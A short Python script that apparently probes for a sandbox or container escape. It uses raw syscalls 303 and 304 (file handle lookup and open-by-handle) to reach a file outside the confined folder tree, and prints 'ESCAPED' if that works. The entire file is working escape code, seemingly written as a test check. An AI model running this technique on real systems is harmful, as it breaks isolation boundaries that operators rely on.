# A file by its handle, past every folder.
# needs: root
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
call = lambda *a: libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
r = -1
h = (ctypes.c_uint32 * 34)(128, 0); m = ctypes.c_int()
if call(303, -100, os.environ["ESC_FIX"].encode(), h, ctypes.byref(m), 0) == 0:
    fd = os.open(os.environ["ESC_FIX"] + "/ws", os.O_RDONLY)
    r = call(304, fd, h, os.O_RDONLY)
if r >= 0: print("ESCAPED")
else: print(os.strerror(ctypes.get_errno()))
